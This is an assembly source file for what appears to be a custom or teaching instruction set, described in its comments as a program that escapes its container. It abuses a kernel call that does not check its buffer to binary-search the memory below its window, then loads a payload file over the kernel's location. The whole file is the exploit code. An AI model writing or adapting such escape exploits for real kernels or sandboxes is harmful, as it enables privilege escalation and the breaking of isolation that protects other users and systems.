# A program for containers that gets out of its own, if the kernel can be made to move a block to any address: one call
# that does not look at its buffer is enough (`--define UNCHECKED`). payload.s is what it puts where the kernel was.
#
# It first has to find out where it is. Writing storage to the disk harms nobody, and the disk says whether there was such
# an address: so 20 questions tell how many words lie below this window.
        .include <calls.s>
        .include <user.s>

start:  la   r1, probe
        set  r2, 5
        svc  CHANGE
        mov  r8, r1
        set  r9, 0              # at least so many words lie below
        li   r10, 1 << 20       # and fewer than so many
1:      sub  r11, r10, r9
        srli r11, r11, 1
        beqz r11, 2f
        add  r11, r11, r9
        mov  r1, r8
        set  r2, 0
        neg  r3, r11
        set  r4, 512
        svc  PUT
        addi r2, r1, 1
        beqz r2, vain           # -1: the kernel has looked
        mov  r2, r10
        mov  r10, r11
        bnez r1, 1b
        mov  r10, r2
        mov  r9, r11
        b    1b
2:      la   r1, payload
        set  r2, 7
        svc  OPEN
        set  r2, 0
        neg  r3, r9             # word 0 of storage
        svc  GET
        say  "I have not come far"
        leave 1
vain:   say  "the kernel looks at every buffer"
        leave 0
probe:  .ascii "probe"
payload:
        .ascii "payload"
